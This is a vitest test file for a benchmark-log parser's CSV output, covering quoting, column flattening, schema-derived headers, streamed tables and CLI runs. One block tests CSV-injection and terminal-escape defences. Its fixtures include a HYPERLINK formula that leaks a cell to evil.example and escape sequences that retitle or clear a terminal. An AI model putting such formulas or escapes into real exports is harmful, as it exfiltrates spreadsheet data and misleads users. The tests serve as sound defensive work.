import { spawn, spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "zod";
import { describe, expect, it } from "vitest";
import { CsvTable, csvCell, csvRows, flatten, formatColumns, schemaColumns, toCsv, type SchemaColumn } from "../src/api/csv.js";
import { LoadTestSummary, summarize } from "../src/api/summary.js";
import { lazyJsonSchema } from "../src/kit/lazy-schema.js";
import { formatNames, getFormat, parse, safeParse, type FormatName } from "../src/index.js";
import { fixturesOf, formatSamples } from "./helpers/formats.js";
import { readCsv } from "./helpers/csv-read.js";
import { root, sample } from "./helpers/samples.js";

describe("CSV output", () => {
  it("quotes commas, quotes and line breaks (RFC 4180) and reads back", () => {
    const rows = [{ a: 1, b: 'say "hi", then\nleave' }, { a: 2, c: null }];
    const csv = toCsv(rows);
    expect(csv).toBe('a,b,c\r\n1,"say ""hi"", then\nleave",\r\n2,,\r\n');
    expect(readCsv(csv)).toEqual([["a", "b", "c"], ["1", 'say "hi", then\nleave', ""], ["2", "", ""]]);
  });

  it("flattens nested objects with dotted names, and no cell holds JSON", () => {
    expect(flatten({ g: { x: 1, y: { z: 2 } }, list: [1, 2], none: [], errors: [{ message: "a" }, { message: "b" }] })).toEqual({
      "g.x": 1,
      "g.y.z": 2,
      list: "1; 2",
      none: "",
      "errors.0.message": "a",
      "errors.1.message": "b",
    });
    expect(flatten({ percentiles: [{ percent: 50, ms: 1 }, { percent: 99.9, ms: null }] })).toEqual({ "percentiles.p50Ms": 1, "percentiles.p99.9Ms": null });
  });

  it("writes an ab run as one row with every field and its percentiles p50..p100 as columns", () => {
    const records = parse(sample("ab/ab-plain-n1000-c10.txt"), { format: "ab" });
    const rows = csvRows(records);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row).toMatchObject({ failedRequests: 0, timePerRequestMs: 0.972, requestsPerSecond: 10289.65, "connectionTimes.total.maxMs": 3 });
    const percentiles = Object.keys(row).filter((k) => k.startsWith("percentiles."));
    expect(percentiles).toEqual(["50", "66", "75", "80", "90", "95", "98", "99", "100"].map((p) => `percentiles.p${p}Ms`));
    expect(row["percentiles.p100Ms"]).toBe(3);
    const table = readCsv(toCsv(rows));
    expect(table).toHaveLength(2);
    expect(table[1]!.some((cell) => cell.startsWith("[") || cell.startsWith("{"))).toBe(false);
  });

  it("writes a top frame as one row per process, the frame's fields repeated", () => {
    const [frame] = parse(sample("top/procps-ng-4.0.2-b-n3-d0.5.txt"), { format: "top" });
    if (frame?.kind !== "frame") throw new Error("no frame");
    const rows = csvRows([frame]);
    expect(rows).toHaveLength(frame.processes.length);
    expect(rows[1]).toMatchObject({ format: "top", time: frame.time, loadAverage1m: frame.loadAverage1m, "process.pid": frame.processes[1]!.pid });
    expect(Object.values(rows[0]!).some((v) => typeof v === "string" && /^[[{]/.test(v))).toBe(false);
  });

  it("writes ab -e's table as one row per percentile", () => {
    const rows = csvRows(parse("Percentage served,Time in ms\n0,1.000\n50,2.000\n100,9.500\n", { format: "ab-csv" }));
    expect(rows).toEqual([
      { format: "ab-csv", percent: 0, ms: 1 },
      { format: "ab-csv", percent: 50, ms: 2 },
      { format: "ab-csv", percent: 100, ms: 9.5 },
    ]);
  });

  it("writes stub_status samples one row each", () => {
    const records = parse(sample("nginx-stub-status/series-date-default-ab-k-c20.txt"), { format: "nginx-stub-status" });
    const rows = csvRows(records);
    expect(rows).toHaveLength(records.length);
    expect(Object.keys(rows[0]!)).toContain("gauges.activeConnections");
  });
});

/** Whether a column name is one of `columns` (a name, or a pattern's). */
const coveredBy = (columns: SchemaColumn[]) => {
  const names = new Set(columns.filter((c): c is string => typeof c === "string"));
  const patterns = columns.filter((c): c is Exclude<SchemaColumn, string> => typeof c !== "string").map((c) => c.pattern);
  return (name: string): boolean => names.has(name) || patterns.some((p) => p.test(name));
};
const shown = (columns: SchemaColumn[]): string[] => columns.map((c) => (typeof c === "string" ? c : c.example));

/** The records of a format's samples that it reads whole (with the options its tests read them with). */
async function sampleRecords(format: FormatName): Promise<{ file: string; records: unknown[] }[]> {
  const { sampleOptions } = await fixturesOf(format);
  const out: { file: string; records: unknown[] }[] = [];
  for (const file of formatSamples(format)) {
    const text = readFileSync(join(root, getFormat(format).testing.samples, file), "utf8");
    const result = safeParse(text, { format, ...sampleOptions?.(file) } as { format: FormatName });
    if (result.success) out.push({ file, records: result.data });
  }
  return out;
}

describe("CSV columns from a zod schema (schemaColumns)", () => {
  it("objects dotted, optional keys included, lists of values one column, in schema order", () => {
    const schema = z.object({ a: z.number(), b: z.object({ c: z.string(), d: z.boolean().optional() }).optional(), tags: z.array(z.string()), e: z.null() });
    expect(schemaColumns(schema)).toEqual(["a", "b.c", "b.d", "tags", "e"]);
  });

  it("a union's options in turn: a column first met in a later option comes after the earlier ones'", () => {
    const schema = z.discriminatedUnion("kind", [z.object({ kind: z.literal("x"), a: z.number(), b: z.number() }), z.object({ kind: z.literal("y"), c: z.number(), a: z.number() })]);
    expect(schemaColumns(schema)).toEqual(["kind", "a", "b", "c"]);
  });

  it("places the input names: a map's keys, a percentile table's percents, a numbered list's positions", () => {
    const schema = z.object({
      columns: z.record(z.string(), z.number()),
      p: z.array(z.object({ percent: z.number(), ms: z.number() })),
      errors: z.array(z.object({ message: z.string() })),
    });
    const columns = schemaColumns(schema);
    expect(shown(columns)).toEqual(["columns.*", "p.pNMs", "errors.N.message"]);
    const covered = coveredBy(columns);
    for (const name of ["columns.%user", "columns.a.b", "p.p50Ms", "p.p99.9Ms", "p.p2.5Ms", "errors.0.message", "errors.12.message"]) expect(covered(name), name).toBe(true);
    for (const name of ["columns", "p.p50Count", "p.pxMs", "errors.x.message", "errors.0.code"]) expect(covered(name), name).toBe(false);
  });

  it("a percentile table whose percent may be absent is also numbered (flatten numbers a list not all of whose elements have one)", () => {
    const schema = z.object({ checks: z.array(z.object({ name: z.string(), percent: z.number().optional() })) });
    expect(shown(schemaColumns(schema))).toEqual(["checks.pNName", "checks.N.name", "checks.N.percent"]);
    const rows = csvRows([{ checks: [{ name: "a", percent: 50 }, { name: "b" }] }, { checks: [{ name: "a", percent: 50 }] }]);
    const covered = coveredBy(schemaColumns(schema));
    for (const row of rows) for (const name of Object.keys(row)) expect(covered(name), name).toBe(true);
  });

  it("reads a z.custom through the JSON Schema lazyJsonSchema gives it", () => {
    const Row = lazyJsonSchema(z.custom<object>(() => true), () => ({ type: "object", properties: { pid: { type: "integer" }, extra: { type: "object", additionalProperties: { type: "string" } } } }));
    expect(shown(schemaColumns(z.object({ rows: z.array(Row) })))).toEqual(["rows.N.pid", "rows.N.extra.*"]);
  });

  it("goes through a row function (a format's csvRows), and keeps one section's records", () => {
    const schema = z.discriminatedUnion("section", [z.object({ section: z.literal("cpu"), user: z.number() }), z.object({ section: z.literal("mem"), free: z.number() })]);
    expect(schemaColumns(schema, undefined, "mem")).toEqual(["section", "free"]);
    expect(schemaColumns(schema, (r) => [{ ...(r as object), n: 1 }])).toEqual(["section", "user", "n", "free"]);
  });

  it("sar --section: that section's columns, not the others'", () => {
    const cpu = shown(formatColumns("sar", "cpu-load"));
    expect(cpu).toEqual(expect.arrayContaining(["format", "kind", "timestamp", "section", "key", "cpuUserPercent", "cpuIdlePercent", "otherColumns.*", "statistic"]));
    expect(cpu).not.toContain("memFreeBytes");
    // each value once (#41): no printed copy of the typed fields
    expect(cpu.filter((c) => c.startsWith("columns"))).toEqual([]);
    expect(shown(formatColumns("sar"))).toEqual(expect.arrayContaining(["cpuUserPercent", "memFreeBytes"]));
  });

  it("top: the frame's columns, then each process's (one row per process), then the error record's", () => {
    const columns = shown(formatColumns("top"));
    expect(columns.slice(0, 3)).toEqual(["format", "kind", "variant"]);
    expect(columns).toEqual(expect.arrayContaining(["loadAverage1m", "memory.totalBytes", "cpus.N.userPercent", "process.pid", "process.command", "process.extra.*", "error.message"]));
    expect(columns.indexOf("process.pid")).toBeGreaterThan(columns.indexOf("memory.totalBytes"));
    expect(columns).not.toContain("processes");
  });

  // the oracle: what flatten makes of every sample's records (today's rows) has a column in the schema's header
  for (const format of formatNames) {
    it(`${format}: every column of every sample's CSV rows is one its schema gives`, async () => {
      const covered = coveredBy(formatColumns(format));
      const missing = new Set<string>();
      let cells = 0;
      for (const { file, records } of await sampleRecords(format)) {
        for (const row of csvRows(records)) {
          for (const [name, v] of Object.entries(row)) {
            if (v === undefined || v === null || v === "") continue;
            cells++;
            if (!covered(name)) missing.add(`${file}: ${name}`);
          }
        }
      }
      expect([...missing]).toEqual([]);
      expect(cells).toBeGreaterThan(0);
    }, 120_000);
  }

  it("sar: every section's rows in every sample are covered by that section's columns alone", async () => {
    const missing = new Set<string>();
    for (const { file, records } of await sampleRecords("sar")) {
      for (const record of records as { section?: string }[]) {
        if (record.section === undefined) continue;
        const covered = coveredBy(formatColumns("sar", record.section));
        for (const [name, v] of Object.entries(csvRows([record])[0]!)) if (v !== undefined && v !== null && v !== "" && !covered(name)) missing.add(`${file}: ${record.section}: ${name}`);
      }
    }
    expect([...missing]).toEqual([]);
  }, 120_000);
});

/** The table as {column: cell} objects, empty cells left out. */
const tableOf = (text: string): Record<string, string>[] => {
  const [header = [], ...rows] = readCsv(text);
  return rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i] ?? ""]).filter(([, v]) => v !== "")));
};

describe("CSV written as the records come (CsvTable)", () => {
  const write = (records: unknown[], table = new CsvTable()): string => records.map((r) => table.add(r)).join("") + table.end();

  it.each([
    ["ab", "ab/ab-plain-n1000-c10.txt"],
    ["top", "top/procps-ng-4.0.2-b-n3-d0.5.txt"],
    ["sar", "sar/sar-A-C-comments-restart.txt"],
    ["hey", "hey/hey-non2xx-mixed-n2000-c20-disable-keepalive.txt"],
    ["wrk", "wrk/wrk-latency-t4-c100-d3s.txt"],
    ["free", "free/procps-4.0.2-C-s1-c3.txt"],
    ["vmstat", "vmstat/procps-4.0.2-C-1-23.txt"],
    ["nginx-stub-status", "nginx-stub-status/series-date-default-ab-k-c20.txt"],
  ] as const)("%s: the same cells as the whole table written at once (toCsv), every schema column in the header", (format, file) => {
    if (!existsSync(join(root, "samples", file))) throw new Error(`no sample ${file}`);
    const records = parse(sample(file), { format } as { format: FormatName; unit?: "k" });
    const streamed = write(records);
    expect(tableOf(streamed)).toEqual(tableOf(toCsv(csvRows(records))));
    const header = readCsv(streamed)[0]!;
    const statics = formatColumns(format).filter((c): c is string => typeof c === "string");
    expect(header.filter((h) => statics.includes(h))).toEqual(statics);
  });

  it("writes the header and the rows held so far once `window` rows are in hand, then each row as it is added", () => {
    const records = parse(sample("top/procps-ng-4.0.2-b-n3-d0.5.txt"), { format: "top" });
    const rows = csvRows(records).length;
    const table = new CsvTable({ window: 4 });
    const texts = records.map((r) => table.add(r));
    expect(texts[0]!.split("\r\n").length - 1).toBe(rows / records.length + 1); // the header and the first frame's rows
    expect(texts.slice(1).every((t) => t.split("\r\n").length - 1 === rows / records.length)).toBe(true);
    expect(table.end()).toBe("");
    expect(table.holding).toBe(false);
  });

  it("a column the input names only after the header was written is left out, and counted", () => {
    const [run] = parse(sample("ab/ab-plain-n1000-c10.txt"), { format: "ab" });
    const { percentiles: _p, ...bare } = run as Record<string, unknown>;
    const table = new CsvTable({ window: 1 });
    const text = table.add(bare) + table.add(run) + table.end();
    expect(readCsv(text)[0]).not.toContain("percentiles.p50Ms");
    expect(readCsv(text)[0]).toContain("requestsPerSecond");
    expect(table.left.get("percentiles.p50Ms")).toBe(1);
    expect(table.left.size).toBe(9);
  });

  it("several formats in one table: each one's columns; `sources` puts `source` after `format`, on rows that csvRows made too", () => {
    // as the CLI tags them: `source` after `format`
    const tag = (source: string) => (r: { format: string }) => ({ format: r.format, source, ...(r as object) });
    const ab = parse(sample("ab/ab-plain-n1000-c10.txt"), { format: "ab" }).map(tag("a.txt"));
    const hey = parse(sample("hey/hey-n200-c1.txt"), { format: "hey" }).map(tag("b.txt"));
    const text = write([...ab, ...hey], new CsvTable({ sources: true }));
    const [header] = readCsv(text);
    expect(header!.slice(0, 2)).toEqual(["format", "source"]);
    expect(header).toEqual(expect.arrayContaining(["requestsPerSecond", "percentiles.p50Ms", "averageMs", "percent", "ms"]));
    const rows = tableOf(text);
    expect(rows[0]).toMatchObject({ format: "ab", source: "a.txt" });
    expect(rows.slice(1).every((r) => r.source === "b.txt" && r.format === undefined)).toBe(true); // hey's rows have no format column
    expect(rows.length).toBe(1 + csvRows(hey).length);
  });

  it("--summary rows: LoadTestSummary's columns; a whole-input summary (no status) its own", () => {
    const runs = parse(sample("ab/ab-plain-n1000-c10.txt"), { format: "ab" }).map((r) => summarize(r));
    const table = new CsvTable();
    const text = table.add(runs[0], "summary") + table.add({ format: "ab-gnuplot", kind: "summary", requests: 3, ttime: { minMs: 1 } }, "summary") + table.end();
    const [header] = readCsv(text);
    const statics = schemaColumns(LoadTestSummary).filter((c): c is string => typeof c === "string");
    expect(header!.slice(0, statics.length)).toEqual(statics);
    expect(header).toEqual(expect.arrayContaining(["latencyPercentiles.p50Ms", "kind", "ttime.minMs"]));
  });
});

describe("CSV cells: formulas and control characters (OWASP CSV injection; terminal escapes)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tx", "'\tx"],
    ["\r=x", "\"'\r=x\""],
    ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")"`],
    ["a=b", "a=b"],
    ["a\x1b]0;PWNED\x07b", "a\\x1b]0;PWNED\\x07b"],
    ["\x1b[2J", "\\x1b[2J"],
    ["a\u009b2Jb", "a\\x9b2Jb"],
    ["a\u202eb", "a\\u202eb"],
    ["a\tb", "a\tb"],
    ["line 1\nline 2", '"line 1\nline 2"'],
    ["a\r\nb\x00", '"a\r\nb\\0"'],
  ])("string %j -> %j", (value, cell) => expect(csvCell(value)).toBe(cell));

  it("numbers, booleans, null and absent values are written as they are", () => {
    expect([-5, -0.25, 1e21, 0, true, false, null, undefined].map(csvCell)).toEqual(["-5", "-0.25", "1e+21", "0", "true", "false", "", ""]);
  });

  it("a header name from the input is made safe too", () => {
    const table = new CsvTable();
    const text = table.add({ a: 1, "=cmd": "x" }, "plain") + table.end();
    expect(text.split("\r\n")[0]).toBe("a,'=cmd");
  });

  /** Every cell that starts like a formula is a number the record holds as a number. */
  const formulaCells = (text: string): string[] => readCsv(text).flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?(e[-+]?\d+)?$/.test(c));

  it("ab: a host `=1+1` (../shared/repro/csv-formula-ab.txt's form) is text in its cell", () => {
    const records = parse(sample("ab/ab-plain-n1000-c10.txt").replace(/(Server Hostname: +)127\.0\.0\.1/, "$1=1+1"), { format: "ab" });
    const table = new CsvTable();
    const out = table.add(records[0]) + table.end();
    expect(tableOf(out)[0]!.serverHostname).toBe("'=1+1");
    expect(formulaCells(out)).toEqual([]);
  });

  it("top: a command `=HYPERLINK(...)` (../shared/repro/csv-formula-top.txt's form) is text; a negative nice value stays a number", () => {
    const text = sample("top/procps-ng-4.0.2-b-n3-d0.5.txt")
      .replace(/(\n +5 root +20 +)0( .*R .*)sh\n/, '$1-5$2=HYPERLINK("http://evil.example/?leak="&A2,"click")\n');
    const records = parse(text, { format: "top" });
    const table = new CsvTable();
    const out = records.map((r) => table.add(r)).join("") + table.end();
    const row = tableOf(out).find((r) => r["process.pid"] === "5")!;
    expect(row["process.command"]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A2,"click")`);
    expect(row["process.nice"]).toBe("-5");
    expect(formulaCells(out)).toEqual([]);
  });

  it("free: escape sequences in a value (../shared/repro/esc-free-value.txt's form) never reach the output raw", () => {
    const records = parse("              total        used        free      shared  buff/cache   available\nMem:        24684092     1234804    22521700         976     1204388    23401288\n", { format: "free", unit: "k" });
    const tampered = records.map((r) => ({ ...r, warnings: ["12\x1b]0;PWNED-TITLE\x07\x1b[2J\u009b2J"] }));
    const table = new CsvTable();
    const out = tampered.map((r) => table.add(r)).join("") + table.end();
    expect(out).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/);
    expect(out).toContain("12\\x1b]0;PWNED-TITLE\\x07\\x1b[2J\\x9b2J");
  });
});

describe("benchparse --csv (dist/cli.js)", () => {
  const cli = join(root, "dist", "cli.js");
  const run = (args: string[], input?: string) => spawnSync(process.execPath, [cli, ...args], { cwd: root, input, encoding: "utf8", maxBuffer: 1 << 28 });

  it("is built", () => expect(existsSync(cli), "dist/cli.js: run `npm run build`").toBe(true));

  it("streams: the header and rows are out while the input is still open (a top log of 3,600 rows)", async () => {
    const frames = sample("top/procps-ng-4.0.2-b-n3-d0.5.txt");
    const child = spawn(process.execPath, [cli, "--csv", "--format", "top"], { cwd: root });
    let out = "";
    child.stdout.setEncoding("utf8").on("data", (d: string) => (out += d));
    for (let i = 0; i < 200; i++) child.stdin.write(frames);
    const early = await new Promise<number>((resolve, reject) => {
      const started = Date.now();
      const check = setInterval(() => {
        const lines = out.split("\r\n").length - 1;
        if (lines > 1000) (clearInterval(check), resolve(lines));
        else if (Date.now() - started > 60_000) (clearInterval(check), reject(new Error(`${lines} lines after 60 s with the input open`)));
      }, 50);
    });
    expect(early).toBeGreaterThan(1000);
    child.stdin.end();
    const code = await new Promise((resolve) => child.on("close", resolve));
    expect(code).toBe(0);
    expect(out.split("\r\n").length - 1).toBe(1 + 200 * csvRows(parse(frames, { format: "top" })).length);
  }, 120_000);

  it("a live input's header waits a second at most: vmstat rows on a pipe still open are out", async () => {
    const child = spawn(process.execPath, [cli, "--csv", "--format", "vmstat"], { cwd: root });
    let out = "";
    child.stdout.setEncoding("utf8").on("data", (d: string) => (out += d));
    const text = sample("vmstat/procps-4.0.2-C-1-23.txt");
    child.stdin.write(text);
    const lines = await new Promise<number>((resolve) => {
      const started = Date.now();
      const check = setInterval(() => {
        const n = out.split("\r\n").length - 1;
        if (n >= 2 || Date.now() - started > 30_000) (clearInterval(check), resolve(n));
      }, 50);
    });
    child.stdin.end();
    await new Promise((resolve) => child.on("close", resolve));
    expect(lines).toBeGreaterThanOrEqual(2); // the header and at least one row before the end of the input
    expect(out.split("\r\n").length - 1).toBe(1 + parse(text, { format: "vmstat" }).length);
  }, 60_000);

  it("--section gives that section's schema columns; --summary LoadTestSummary's", () => {
    const sar = run(["--csv", "--section", "cpu-load", "samples/sar/sar-A-C-comments-restart.txt"]);
    expect(sar.status).toBe(0);
    const header = readCsv(sar.stdout)[0]!;
    const statics = formatColumns("sar", "cpu-load").filter((c): c is string => typeof c === "string");
    // every column has its typed field in cpu-load: no otherColumns.* names from the input, and no printed copies
    expect(header).toEqual(statics);
    expect(header).toContain("cpuUsrPercent");
    const summary = run(["--csv", "--summary", "samples/ab/ab-plain-n1000-c10.txt"]);
    expect(readCsv(summary.stdout)[0]!.slice(0, 3)).toEqual(["format", "status", "reason"]);
    expect(tableOf(summary.stdout)[0]).toMatchObject({ format: "ab", requestsPerSecond: "10289.65", "latencyPercentiles.p99Ms": "2" });
  });

  it("--raw: one row per raw record, the columns its first rows have", () => {
    const r = run(["--csv", "--raw", "samples/free/procps-4.0.2-C-s1-c3.txt"]);
    expect(r.status).toBe(0);
    const rows = tableOf(r.stdout);
    expect(rows).toHaveLength(parse(sample("free/procps-4.0.2-C-s1-c3.txt"), { format: "free", raw: true }).length);
  });
});
